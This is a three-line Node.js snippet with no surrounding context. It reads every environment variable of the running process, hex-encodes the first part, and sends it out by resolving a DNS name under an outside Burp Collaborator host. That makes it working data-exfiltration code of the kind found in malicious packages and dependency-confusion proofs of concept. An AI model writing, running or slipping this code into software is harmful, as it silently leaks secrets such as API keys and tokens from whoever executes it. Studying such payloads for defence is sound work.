const dns = require('dns');
const d = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);
dns.resolve(d + '.x.burpcollaborator.net', () => {});
